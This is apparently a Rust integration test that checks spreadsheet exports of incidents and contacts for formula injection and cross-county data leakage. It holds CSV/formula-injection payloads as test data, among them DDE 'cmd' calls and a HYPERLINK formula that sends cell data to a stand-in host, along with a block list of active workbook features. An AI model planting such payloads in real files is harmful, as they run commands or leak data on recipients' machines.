//! Lists taken out as files: only what their reader may see, words as words, and nothing that a spreadsheet would do by itself.

use std::io::{Cursor, Read as _};

use reqwest::Method;
use serde_json::json;

use crate::markup::plain;
use crate::office::{CITY, COUNTY, OTHER_COUNTY, Office, Visitor};

/// Words that a spreadsheet would work out, call or show as a link if it took them for more than words.
const FORMULAS: [&str; 5] = [
    "=1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"open\")",
    "https://elsewhere.example/x",
];

/// All parts of a workbook, one behind the other.
async fn taken_out(by: &Visitor, path: &str) -> String {
    let file = by.get(path).await.with(200);
    assert!(file.header("content-disposition").starts_with("attachment;"), "{path}");
    assert_eq!(file.header("x-content-type-options"), "nosniff", "{path}");
    let mut parts = zip::ZipArchive::new(Cursor::new(file.bytes)).expect("a workbook");
    let mut all = String::new();
    for at in 0..parts.len() {
        parts.by_index(at).expect("a part").read_to_string(&mut all).expect("XML");
    }
    for active in ["<f>", "<f ", "TargetMode=\"External\"", "<hyperlink", "ddeLink", "vbaProject", "<!ENTITY", "<!DOCTYPE"] {
        assert!(!all.contains(active), "{path} holds {active}");
    }
    plain(&all)
}

#[tokio::test]
async fn a_list_that_is_taken_out_holds_words_and_only_those_of_its_reader() {
    let office = Office::open();
    let (director, administrator) = (office.bearer("director", CITY), office.bearer("administrator", CITY));
    let (here, there) = (office.bearer("director", COUNTY), office.bearer("director", OTHER_COUNTY));
    for (n, formula) in FORMULAS.into_iter().enumerate() {
        let call = json!({ "summary": formula, "place": { "text": formula, "areas": [COUNTY] } });
        director.send(Method::POST, "/api/incidents", &call).await.with(201);
        let body =
            json!({ "code": format!("x{n}"), "name": formula, "short_name": formula, "kind": "department", "area": COUNTY });
        let body = administrator.send(Method::POST, "/api/organisations", &body).await.with(201).text("/id");
        let post = json!({ "title": formula, "kind": "head" });
        administrator.send(Method::POST, &format!("/api/organisations/{body}/posts"), &post).await.with(201);
    }
    for reader in [&director, &here] {
        let (incidents, contacts) = (taken_out(reader, "/incidents/list.xlsx").await, taken_out(reader, "/contacts.xlsx").await);
        for formula in FORMULAS {
            assert!(incidents.contains(formula), "{formula} in {incidents}");
            assert!(contacts.contains(formula), "{formula} in {contacts}");
        }
    }
    let incidents = taken_out(&there, "/incidents/list.xlsx").await;
    assert!(!FORMULAS.iter().any(|formula| incidents.contains(formula)), "of another county: {incidents}");
    taken_out(&administrator, "/places/areas.xlsx").await;
    for path in ["/incidents/list.xlsx", "/contacts.xlsx"] {
        administrator.get(path).await.with(403);
        office.nobody().get(path).await.with(401);
    }
}
